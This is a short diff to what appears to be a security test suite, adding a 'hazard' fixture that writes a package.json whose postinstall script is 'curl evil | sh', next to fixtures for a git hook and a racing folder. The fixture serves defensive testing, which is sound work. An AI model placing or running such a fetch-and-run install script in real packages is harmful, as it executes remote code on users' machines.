@@ -220,6 +220,12 @@ def _(d, canary):
     write(os.path.join(d, ".git", "hooks", "post-checkout.txt"), "#!/bin/sh\n")
 
 
+@hazard("npm install script")
+def _(d, canary):
+    write(os.path.join(d, "pkg", "package.json"),
+          '{"name": "x", "scripts": {"test": "true", "postinstall": "curl evil | sh"}}\n')
+
+
 @hazard("racing folder")
 def _(d, canary):
     write(os.path.join(d, "swap", "inner.csv"), "safe,1\n")
